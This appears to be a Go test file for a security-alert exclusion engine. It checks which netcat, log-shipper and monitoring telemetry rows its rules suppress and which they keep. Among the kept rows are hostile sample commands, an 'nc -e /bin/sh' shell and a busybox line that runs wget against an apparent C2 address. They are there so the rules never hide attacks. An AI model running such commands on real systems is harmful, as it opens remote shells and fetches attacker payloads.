package rule

import (
	"os"
	"testing"
)

func netcat(t *testing.T) map[string]*Rule {
	t.Helper()
	f, err := os.Open("../../testdata/exclusions/netcat.yaml")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	list, err := Load(f, "netcat.yaml")
	if err != nil {
		t.Fatal(err)
	}
	rules := map[string]*Rule{}
	for _, r := range list {
		rules[r.Name] = r
		if got := lintOf(r); len(got) > 0 {
			t.Errorf("%s: %q", r.Name, got)
		}
	}
	return rules
}

// TestNetcat shows, for each scenario, rows as telemetry has them: some that
// the rule suppresses and near ones that it must keep.
func TestNetcat(t *testing.T) {
	rules := netcat(t)
	used := map[string][2]bool{}
	endpoint := func(pairs ...string) *Context {
		return context(dne, append([]string{"ActionType", "ConnectionSuccess", "RemotePort", "22"}, pairs...)...)
	}
	backup := func(when, process, command string) *Context {
		return endpoint("Timestamp", when, "InitiatingProcessFileName", process, "InitiatingProcessCommandLine", command)
	}
	admin := func(user, host, process, remote string) *Context {
		return endpoint("InitiatingProcessAccountName", user, "DeviceName", host, "InitiatingProcessFileName", process, "RemoteIP", remote)
	}
	ship := func(process, command, remote string) *Context {
		return endpoint("InitiatingProcessFileName", process, "InitiatingProcessCommandLine", command, "RemoteIP", remote)
	}
	syslog := func(src, dst, port string) *Context {
		return context(csl, "SourceIP", src, "DestinationIP", dst, "DestinationPort", port)
	}
	monitor := func(local, process, path string) *Context {
		return endpoint("LocalIP", local, "InitiatingProcessFileName", process, "InitiatingProcessFolderPath", path, "RemoteIP", "176.65.139.7")
	}
	const night, day = "2025-04-01T03:00:00.1234567Z", "2025-04-01T12:00:00Z"
	for _, c := range []struct {
		name, rule string
		hit        *Context
		suppressed bool
	}{
		{"nc at night", "backup-window", backup(night, "nc", "nc -z 192.168.1.100 22"), true},
		{"nc.openbsd with its path", "backup-window", backup(night, "nc.openbsd", "/bin/nc.openbsd -zv -w1 192.168.1.100 22"), true},
		{"busybox", "backup-window", backup(night, "busybox", "busybox nc -z 192.168.1.100"), true},
		{"ncat.exe", "backup-window", backup(night, "NCAT.EXE", `"C:\tools\ncat.exe" -z 192.168.1.100 22`), true},
		{"by day", "backup-window", backup(day, "nc", "nc -z 192.168.1.100 22"), false},
		{"another server", "backup-window", backup(night, "nc", "nc -z 192.168.1.1001 22"), false},
		{"not the check", "backup-window", backup(night, "nc", "nc -e /bin/sh 192.168.1.100 22"), false},
		{"rsync", "backup-window", backup(night, "rsync", "rsync -z 192.168.1.100 /x"), false},
		{"a shell that goes on", "backup-window", backup(night, "busybox", `busybox sh -c "nc -z 192.168.1.100 22; wget http://176.65.139.7/x"`), false},
		{"no command line", "backup-window", backup(night, "nc", ""), false},
		{"no time", "backup-window", backup("", "nc", "nc -z 192.168.1.100 22"), false},

		{"root on the admin host", "admin-remote-management", admin("root", "admin-ws.corp.example", "ncat.exe", "::ffff:10.0.0.5"), true},
		{"root to elsewhere", "admin-remote-management", admin("root", "admin-ws", "nc", "176.65.139.7"), false},
		{"root on a camera", "admin-remote-management", admin("root", "cam-gw", "busybox", "10.0.0.5"), false},
		{"another user", "admin-remote-management", admin("www-data", "admin-ws", "nc", "10.0.0.5"), false},

		{"fluentd as ruby", "siem-log-shippers", ship("ruby", "/opt/fluent/bin/ruby /usr/sbin/fluentd --daemon", "10.10.10.10"), true},
		{"td-agent.exe", "siem-log-shippers", ship("td-agent.exe", "", "10.10.10.10"), true},
		{"fluent-bit", "siem-log-shippers", ship("fluent-bit", "/opt/fluent-bit/bin/fluent-bit -c x", "10.10.10.10"), true},
		{"logstash as java", "siem-log-shippers", ship("java.exe", `java -cp C:\logstash\logstash-core.jar org.logstash.Logstash`, "10.10.10.10"), true},
		{"nc to the SIEM", "siem-log-shippers", ship("nc.openbsd", "nc 10.10.10.10 514", "10.10.10.10"), true},
		{"another ruby", "siem-log-shippers", ship("ruby", "ruby bot.rb", "10.10.10.10"), false},
		{"another java", "siem-log-shippers", ship("java", "java -jar app.jar", "10.10.10.10"), false},
		{"fluentd to a C2", "siem-log-shippers", ship("ruby", "ruby fluentd", "176.65.139.7"), false},

		{"syslog to the SIEM", "siem-log-transport", syslog("10.0.0.5", "10.10.10.10", "6514"), true},
		{"attack on the SIEM", "siem-log-transport", syslog("176.65.139.7", "10.10.10.10", "514"), false},
		{"another port", "siem-log-transport", syslog("10.0.0.5", "10.10.10.10", "22"), false},

		{"nmap", "network-monitoring", monitor("10.20.0.10", "nmap", "/usr/bin/nmap"), true},
		{"tcpdump", "network-monitoring", monitor("10.20.0.10", "tcpdump", "/usr/sbin/tcpdump"), true},
		{"nmap.exe", "network-monitoring", monitor("10.20.0.10", "nmap.exe", `c:\program files (x86)\nmap\nmap.exe`), true},
		{"renamed bot", "network-monitoring", monitor("10.20.0.10", "tcpdump", "/tmp/tcpdump"), false},
		{"nmap elsewhere", "network-monitoring", monitor("10.0.0.9", "nmap", "/usr/bin/nmap"), false},
		{"the host's other programs", "network-monitoring", monitor("10.20.0.10", "curl", "/usr/bin/curl"), false},
	} {
		t.Run(c.rule+"/"+c.name, func(t *testing.T) {
			r := rules[c.rule]
			if r == nil {
				t.Fatal("no such rule")
			}
			if got := r.Eval(c.hit); (got == True) != c.suppressed {
				t.Errorf("got %s, want suppressed %v", got, c.suppressed)
			}
			for name, other := range rules {
				if !c.suppressed && other.Eval(c.hit) == True {
					t.Errorf("%s suppresses it", name)
				}
			}
		})
		u := used[c.rule]
		if c.suppressed {
			u[0] = true
		} else {
			u[1] = true
		}
		used[c.rule] = u
	}
	for name := range rules {
		if used[name] != [2]bool{true, true} {
			t.Errorf("%s: want a row suppressed and a row kept", name)
		}
	}
}
